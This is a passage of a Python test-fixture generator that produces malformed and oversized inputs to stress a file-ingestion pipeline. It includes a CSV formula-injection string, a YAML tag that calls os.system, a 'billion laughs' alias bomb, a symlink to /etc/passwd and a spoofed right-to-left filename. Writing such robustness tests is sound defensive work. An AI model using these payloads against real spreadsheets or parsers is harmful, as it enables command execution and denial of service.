        yield f"half characters as a key{suffix}", f'{{"\\ud800": "{SENTENCE}", "text": "{SENTENCE}"}}'.encode()
        yield f"number of many digits{suffix}", f'{{"text": "{SENTENCE}", "n": {digits}}}'.encode()
        yield f"text that is a number{suffix}", f'{{"text": {digits}}}'.encode()
        yield f"not numbers{suffix}", b'{"text": NaN, "title": Infinity, "n": -Infinity, "m": 1e99999}'
        yield f"the same key 50,000 times{suffix}", ("{" + f'"text": "{SENTENCE}",' * 50_000 + '"a": 1}').encode()
        yield f"100,000 keys{suffix}", ("{" + ",".join(f'"k{n}": "otter"' for n in range(100_000)) + "}").encode()
        yield f"a key of megabytes{suffix}", f'{{"{"k" * 3 * MB}": "{SENTENCE}"}}'.encode()
        yield f"a text of megabytes{suffix}", f'{{"text": "{"otters eat. " * 300_000}"}}'.encode()
        yield f"a title that is a table{suffix}", f'{{"title": {{"a": []}}, "text": ["{SENTENCE}", null]}}'.encode()
        yield f"a date of no calendar{suffix}", f'{{"published": "2025-02-31", "text": "{SENTENCE}"}}'.encode()
        yield f"a word{suffix}", b'"otters"'
        yield f"nothing{suffix}", b"null"
        yield f"tails{suffix}", f"{record} {record} // comment".encode()
    yield "20,000 records.json", ("[" + ",".join([record] * 20_000) + "]").encode()
    yield "20,000 records.jsonl", f"{record}\n".encode() * 20_000
    yield "one bad record.jsonl", f"{record}\n{{bad\n{record}\n".encode()
    yield "lines of nothing.jsonl", b"\n" * 2 * MB
    yield "records of all kinds.jsonl", f'1\nnull\n[]\n{{}}\n"a"\n{record}\n'.encode()


# --- tables and marked texts


def _tables() -> Made:
    yield "a row of 10 million cells.csv", b"," * 10_000_000
    yield "a row of a million cells.tsv", b"\t" * 1_000_000
    yield "open quote.csv", b'a,b\n"' + b"otter\n" * 500_000
    yield "quotes.csv", b'"' * 2 * MB
    yield "a cell of megabytes.csv", b"a,b\n" + b"x" * 3 * MB + b",y\n"
    yield "50,000 rows.csv", b"a,b\n" * 50_000
    yield "rows of other lengths.csv", "".join(f"{',' * (n % 97)}otter\n" for n in range(5000)).encode()
    yield "10,000 columns.csv", f"{','.join(f'c{n}' for n in range(10_000))}\n".encode() * 30
    yield "NUL in a cell.csv", f"a,b\no\0tter,{SENTENCE}\n".encode()
    yield "a formula.csv", f'a,b\n=cmd|"/C calc"!A0,{SENTENCE}\n'.encode()
    yield "only line ends.csv", b"\r\n" * 200_000
    yield "which mark.csv", b"a;b,c\td|e\n" * 5000
    yield "mark of no text.csv", b"sep=\xff\n1\xff2\n"


def _marked_texts() -> Made:
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
    )
    for what, front in {
        "laughs": laughs,
        "brackets": f"a: {'[' * 20_000}",
        "runs code": 'title: !!python/object/apply:os.system ["touch /tmp/ran"]',
        "merges itself": "a: &a\n  <<: *a",
        "merges a lot": "a: &a {x: 1}\n" + "".join(f"b{n}: {{<<: [{','.join(['*a'] * 100)}]}}\n" for n in range(100)),
        "anchors": "\n".join(f"k{n}: &a{n} v" for n in range(3000)),
        "a list for a title": "title: [a, b]",
        "a title of megabytes": f"title: {'Otters ' * 20_000}",
        "a number for a title": f"title: {'9' * 50_000}",
        "base sixty": f"published: {'1:' * 30_000}1",
        "half characters": 'title: "\\ud800"',
        "a date of no calendar": "date: 2025-02-31",
        "tabs": "\ttitle:\t\t" * 5000,
        "open": f"title: '{'x' * 500_000}",
    }.items():
        yield f"front matter {what}.md", f"---\n{front}\n---\n{SENTENCE}\n".encode()
    yield "front matter without end.md", ("---\n" + "a: b\n" * 200_000).encode()
    yield "a million rules.md", b"---\n" * 500_000
    yield "a million headings.md", b"# \n" * 500_000
    yield "a heading of white space.md", b"# " + b" " * 500_000 + b"x"
    yield "a heading of marks.md", b"#" * 500_000
    for mark in ("*", "_", "`", "[", "](", ">", "- ", "|", "\\", "<", "&", "~"):
        yield (
            f"a megabyte of {'bar' if mark == '|' else f'U+{ord(mark[0]):04x}'}{len(mark)}.md",
            (mark * (MB // 4 // len(mark)) + SENTENCE).encode(),
        )


# --- large, and no files at all


def _sparse(size: int) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        path.write_bytes(SENTENCE.encode())
        os.truncate(path, size)

    return write


def _large() -> Made:
    yield "3 MB without a space.txt", b"x" * 3 * MB
    yield "a line of 50 MB.txt", b"otter clam " * (50 * MB // 11)
    yield "50 MB without a space.txt", b"x" * 50 * MB
    yield "50 MB of lines.md", b"- o\n" * (50 * MB // 4)
    for suffix in sound_files():
        yield f"a gigabyte{suffix}", _sparse(2**30)
    yield "sixteen terabytes.txt", _sparse(2**44 - 2**13)


def _no_files() -> Made:
    for suffix in (".txt", ".pdf"):
        yield f"pipe{suffix}", os.mkfifo
        yield f"folder{suffix}", Path.mkdir
        yield f"link to itself{suffix}", lambda path: path.symlink_to(path)
        yield f"link to nothing{suffix}", lambda path: path.symlink_to("nowhere")
        yield f"link out{suffix}", lambda path: path.symlink_to("/etc/passwd")
        yield f"link to a device{suffix}", lambda path: path.symlink_to("/dev/zero")
        yield f"link to a folder{suffix}", lambda path: path.symlink_to(".")
        yield f"closed{suffix}", _closed
    for name in (
        "no suffix",
        ".txt.exe",
        "dots...txt.",
        " .docx ",
        "x" * 240 + ".unknown",
        "a.tar.gz",
        "a.zip",
        "a.doc",
    ):
        yield name, SENTENCE.encode()
    yield "\udcff\udcfe not a name.txt", SENTENCE.encode()
    yield "line\nend.json", b"{"
    yield "‮fdp.txt.pdf", SENTENCE.encode()


def _closed(path: Path) -> None:
    path.write_bytes(SENTENCE.encode())
    path.chmod(0)


def hostile_texts(length: int) -> dict[str, str]:
    """Texts of about that length which a regular expression or a sentence splitter may take too long over."""
    chance = random.Random(5)
    unit = (
        "`",
        "“",
        "«",
        "'",
        " ",
        "\u00a0",
        "\r",
        "x\n",
        " \n",
        "(",
        "[1] ",
        "J. K. ",
        "3 p.m. ",
        "*a ",
        "a@",
        "www.",
    )
    dates = ("2025 ", "3 May 2025 ", "9", "1.", "from May to ", "last Thursday ", "2025-", "3/", "4th of ", "days ago ")
    others = (
        "A.",
        "e.g. ",
        "`a`. ",
        "a\u0301",
        "\u202e",
        "。",
        "- ",
        "> ",
        "# ",
        "...",
        "!?",
        "http://",
        "\\",
        "|",
        "~~",
    )
    return {
        **{repr(one): one * (length // len(one)) for one in (*unit, *dates, *others)},
        "noise": "".join(chr(chance.randrange(32, 0xD800)) for _ in range(length)),
        "white space between": f"x{' ' * length}x",
        "lines of all lengths": "\n".join("x" * chance.randrange(1, 200) for _ in range(length // 100)),
    }
